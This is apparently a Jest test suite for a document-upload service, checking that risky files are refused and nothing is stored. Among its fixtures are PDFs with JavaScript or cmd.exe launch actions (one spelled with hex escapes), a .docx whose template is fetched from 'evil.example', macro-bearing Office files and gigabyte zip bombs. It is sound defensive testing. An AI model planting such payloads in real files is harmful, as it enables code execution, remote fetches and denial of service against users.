import { createHash } from 'node:crypto';
import { createPages } from '../../../pages/handle-request';
import type { PeriodDocument } from '../../../services/obligations/obligation';
import type { PlanDocument } from '../../../services/plans/plan';
import { type Door, openDoor } from '../../support/catalogue/open-door';
import { leavesNothing } from '../../support/catalogue/state-of-office';
import { minimalPdf } from '../../support/formats/minimal-pdf';
import { writePdf } from '../../support/formats/write-pdf';
import { docxOf, zipFiles } from '../../support/formats/zip-files';
import { openVisitor } from '../../support/pages/open-visitor';
import { mailLink, planInForce } from '../../support/pages/sample-plan-on-record';
import { type ServedPages, servePages } from '../../support/pages/serve-pages';

const DRAFTER = 'ht.hong-linh.phan-thi-hong-nhung';
const OFFICER = 'Lê Văn Bình';
const MEGABYTE = 1024 * 1024;
const ZEROS = Buffer.alloc(256 * MEGABYTE);
const WORD = '<w:p><w:r><w:t>Báo cáo kết quả</w:t></w:r></w:p>';
const EXTERNAL =
  '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>';

const sheetOf = (more: { name: string; content: string }[] = []) =>
  zipFiles([{ name: 'xl/workbook.xml', content: '<workbook/>' }, ...more]);

const encrypted = () => writePdf((sheet) => sheet.text('Mật khẩu'), { userPassword: 'x', pdfVersion: '1.7' });
const lockedForCopying = () => writePdf((sheet) => sheet.text('Khóa'), { ownerPassword: 'x', pdfVersion: '1.7' });
const withFileInside = () =>
  writePdf((sheet) => {
    sheet.text('Kèm tệp');
    sheet.file(Buffer.from('MZ'), { name: 'a.exe' });
  });

describe('files that are handed in', () => {
  let door: Door;
  let pages: ServedPages;
  let plan: PlanDocument;
  beforeAll(async () => {
    door = await openDoor({ settings: { RATE_MUTATIONS_PER_MINUTE: '1000' } });
    const { handle } = createPages(door.opened.office);
    pages = await servePages(() => handle);
    plan = await planInForce(door.opened);
  });
  afterAll(async () => {
    await pages.close();
    await door.close();
  });

  async function upload(name: string, content: Buffer): Promise<{ status: number; body: Record<string, unknown> }> {
    const answer = await fetch(`${door.origin}/files?name=${encodeURIComponent(name)}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${await door.token(DRAFTER)}`, 'content-type': 'application/octet-stream' },
      body: new Uint8Array(content),
    });
    return { status: answer.status, body: (await answer.json()) as Record<string, unknown> };
  }
  const stored = async () => ({
    files: await door.opened.mongo.db.collection('files.files').countDocuments({}),
    uploads: await door.opened.office.documents.uploads.countDocuments({}),
  });

  it.each<[string, string, () => Buffer | Promise<Buffer>, string, string | null]>([
    [
      'a program named .pdf',
      'a.pdf',
      () => Buffer.from('MZ\u0090\u0000 program'),
      'FILE_TYPE_REFUSED',
      'unsupported-format',
    ],
    ['a program', 'a.exe', () => Buffer.from('MZ\u0090\u0000 program'), 'FILE_TYPE_REFUSED', 'unsupported-format'],
    ['nothing', 'a.pdf', () => Buffer.alloc(0), 'FILE_TYPE_REFUSED', 'empty'],
    ['26 MB', 'a.pdf', () => Buffer.concat([minimalPdf(), Buffer.alloc(26 * MEGABYTE)]), 'FILE_TOO_LARGE', null],
    ['a PDF that is torn', 'a.pdf', () => Buffer.from('%PDF-1.7\nnothing'), 'FILE_TYPE_REFUSED', 'unreadable'],
    ['a PDF with a password', 'a.pdf', encrypted, 'FILE_TYPE_REFUSED', 'encrypted'],
    ['a PDF locked for copying', 'a.pdf', lockedForCopying, 'FILE_TYPE_REFUSED', 'encrypted'],
    [
      'a PDF with a script',
      'a.pdf',
      () => minimalPdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'a PDF with a script spelled otherwise',
      'a.pdf',
      () => minimalPdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>' }),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'a PDF that starts a program',
      'a.pdf',
      () => minimalPdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'a PDF that hides an object in a stream',
      'a.pdf',
      () => minimalPdf({ objects: ['<</Length 60>>\nstream\n9 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\nendstream'] }),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    ['a PDF with a file inside', 'a.pdf', withFileInside, 'FILE_TYPE_REFUSED', 'active-content'],
    ['a PDF of 10,000 pages', 'a.pdf', () => minimalPdf({ pages: 10_000 }), 'FILE_TYPE_REFUSED', 'too-large'],
    [
      'a .docx with macros',
      'a.docx',
      () => docxOf(WORD, [{ name: 'word/vbaProject.bin', content: 'x' }]),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'a .docx that fetches its template',
      'a.docx',
      () => docxOf(WORD, [{ name: 'word/_rels/settings.xml.rels', content: EXTERNAL }]),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'an .xlsx with macros',
      'a.xlsx',
      () => sheetOf([{ name: 'xl/vbaProject.bin', content: 'x' }]),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'a .docm named .docx',
      'a.docx',
      () =>
        docxOf(WORD, [
          {
            name: '[Content_Types].xml',
            content: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
          },
        ]),
      'FILE_TYPE_REFUSED',
      'active-content',
    ],
    [
      'an archive named .docx',
      'a.docx',
      () => zipFiles([{ name: 'a.txt', content: 'x' }]),
      'FILE_TYPE_REFUSED',
      'unsupported-format',
    ],
    ['an .xlsx named .docx', 'a.docx', () => sheetOf(), 'FILE_TYPE_REFUSED', 'unsupported-format'],
  ])('C32 %s is refused with its reason, and nothing is stored', async (_, name, content, code, reason) => {
    const before = await stored();
    const bytes = await content();
    const { status, body } = await leavesNothing(door.opened, () => upload(name, bytes));
    expect(body).toMatchObject({ code, ...(reason ? { details: { reason } } : {}) });
    expect(status).toBe(code === 'FILE_TOO_LARGE' ? 413 : 415);
    expect(await stored()).toEqual(before);
  });

  it('C32 the report page says why in words a clerk understands, and stores none of several files when one is refused', async () => {
    const period = (await door.opened.office.documents.periods.findOne({
      planId: plan._id,
      ownerKind: 'unit',
    })) as PeriodDocument;
    const link = await mailLink(door.opened, plan, {
      purpose: 'REPORT',
      subjectId: period.ownerId,
      mail: 'REPORT_RETURNED',
      aboutId: period._id,
    });
    const visitor = openVisitor(pages.origin);
    const before = await stored();
    const script = minimalPdf({ catalog: '/OpenAction<</S/JavaScript/JS(1)>>' });
    const files = [
      { name: 'bao-cao.pdf', content: minimalPdf() },
      { name: 'ma.pdf', content: script },
    ];
    const answer = await visitor.submit(link.link, { text: 'Nội dung báo cáo.', signedAs: OFFICER }, files);
    expect(answer.status).toBe(415);
    expect(answer.words).toContain('Không nhận tệp “ma.pdf”. Tệp PDF có mã chạy');
    expect(answer.words).toContain('Nội dung báo cáo.');
    expect(await stored()).toEqual(before);
    expect(await door.opened.office.documents.facts.countDocuments({ subjectId: period._id })).toBe(0);
  });

  it.each([
    [
      'that says so',
      (zeros: Buffer) =>
        docxOf(
          WORD,
          Array.from({ length: 4 }, (_, i) => ({ name: `word/media/${i}.bin`, content: zeros })),
        ),
    ],
    [
      'that lies',
      (zeros: Buffer) =>
        docxOf(
          WORD,
          Array.from({ length: 4 }, (_, i) => ({ name: `word/media/${i}.bin`, content: zeros, statedSize: 1000 })),
        ),
    ],
    [
      'in the text itself',
      (zeros: Buffer) =>
        zipFiles(
          ['document', 'header1', 'header2', 'footer1'].map((part) => ({ name: `word/${part}.xml`, content: zeros })),
        ),
    ],
  ])('C33 a .docx of a gigabyte %s is refused within two seconds, with less than 100 MB of memory', async (_, bomb) => {
    const bytes = bomb(ZEROS);
    const before = await stored();
    const memory = process.memoryUsage().rss;
    let highest = memory;
    const watch = setInterval(() => {
      highest = Math.max(highest, process.memoryUsage().rss);
    }, 10);
    const begun = performance.now();
    const { status, body } = await upload('bom.docx', bytes);
    const seconds = (performance.now() - begun) / 1000;
    clearInterval(watch);
    expect(await stored()).toEqual(before);
    expect({ status, reason: (body['details'] as { reason: string }).reason }).toEqual({
      status: 415,
      reason: 'too-large',
    });
    expect(seconds).toBeLessThan(2);
    expect((highest - memory) / MEGABYTE).toBeLessThan(100);
  });

  it('C34 the same file twice is stored once, under its hash', async () => {
    const content = await writePdf((sheet) => sheet.text('Báo cáo kết quả quý I'));
    const before = await stored();
    const [first, second] = await Promise.all([upload('bao-cao.pdf', content), upload('ban-sao.pdf', content)]);
    const sha256 = createHash('sha256').update(content).digest('hex');
    expect([first.body['id'], second.body['id']]).toEqual([sha256, sha256]);
    await upload('bao-cao.pdf', content);
    expect(await stored()).toEqual({ files: before.files + 1, uploads: before.uploads + 1 });
  });

  it('takes the files offices really send: Word, Excel, PDF, a picture, a text', async () => {
    const pdf = await writePdf((sheet) => sheet.text('Báo cáo kết quả thực hiện kế hoạch năm 2027'));
    const png = Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1');
    const sheet = sheetOf([
      { name: 'xl/sharedStrings.xml', content: '<sst><si><t>Độ mật</t></si><si><t>Mật</t></si></sst>' },
    ]);
    for (const [name, content] of [
      ['a.docx', docxOf(WORD)],
      ['b.xlsx', sheet],
      ['c.pdf', pdf],
      ['d.png', png],
      ['e.txt', Buffer.from('Đã xong.')],
    ] as const)
      expect(await upload(name, content)).toMatchObject({ status: 200, body: { name } });
  });
});
